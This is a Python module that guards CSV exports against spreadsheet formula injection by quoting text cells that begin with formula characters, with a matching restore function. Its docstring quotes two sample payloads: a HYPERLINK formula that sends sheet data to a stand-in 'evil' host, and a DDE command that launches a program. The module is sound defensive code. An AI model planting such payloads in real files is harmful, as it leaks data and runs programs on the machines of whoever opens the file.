"""CSV that is data, not formulas: every CSV the toolkit writes goes through
:func:`write_csv`.

A spreadsheet opening a CSV runs a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or a carriage return before one) as a formula: a rater's note
``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet, ``=cmd|' /C calc'!A0``
runs a program. As the OWASP guidance on CSV injection says, such a text cell is written
with a single quote in front (``'=HYPERLINK(...)``): a spreadsheet shows it as text.

- Only text columns are touched: a number column is written as numbers (``-3`` stays
  ``-3``), and a text cell that is a whole plain number (``-3``, ``+1.5``, ``-2e3``) is
  left as it is too: a spreadsheet reads it as that number, which runs nothing. So ``-3``
  is written ``-3`` and ``-cmd`` (or ``-3+cmd``) is written ``'-cmd``.
- A text cell that already begins with a single quote gets one more, so that reading our
  own CSV back (:func:`restore_frame`, as a restore does) strips exactly one and gives
  back what was typed, whatever it was.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # polars: `toolkit --help` imports the io package, not polars
    import polars as pl

__all__ = ["FORMULA_STARTS", "neutralise_cell", "neutralise_frame", "restore_frame", "write_csv"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER = r"^[=+\-@\t\r']"
_ESCAPED = r"^'[=+\-@\t\r']"
#: A whole plain number (a spreadsheet reads it as one): left as it is.
_NUMBER = r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$"


def neutralise_cell(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet reads as text (see the module)."""
    if re.match(_TRIGGER, text) and not re.match(_NUMBER, text):
        return "'" + text
    return text


def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text cell that would start a formula prefixed with ``'``
    (text columns only; see the module)."""
    import polars as pl  # polars: `toolkit --help` imports the io package, not polars

    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(c).str.contains(_TRIGGER) & ~pl.col(c).str.contains(_NUMBER))
        .then(pl.lit("'") + pl.col(c))
        .otherwise(pl.col(c))
        .alias(c)
        for c in text
    )


def restore_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """A frame read from a CSV :func:`write_csv` wrote, with the quote it put in front of
    a cell taken off again (text columns only)."""
    import polars as pl  # polars: `toolkit --help` imports the io package, not polars

    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(c).str.contains(_ESCAPED))
        .then(pl.col(c).str.slice(1))
        .otherwise(pl.col(c))
        .alias(c)
        for c in text
    )


def write_csv(frame: pl.DataFrame, path: str | Path | None = None) -> str | None:
    """Write ``frame`` as CSV with every text cell neutralised (:func:`neutralise_frame`):
    into ``path`` (returns None), or as the returned text."""
    safe = neutralise_frame(frame)
    if path is None:
        return safe.write_csv()
    safe.write_csv(path)
    return None
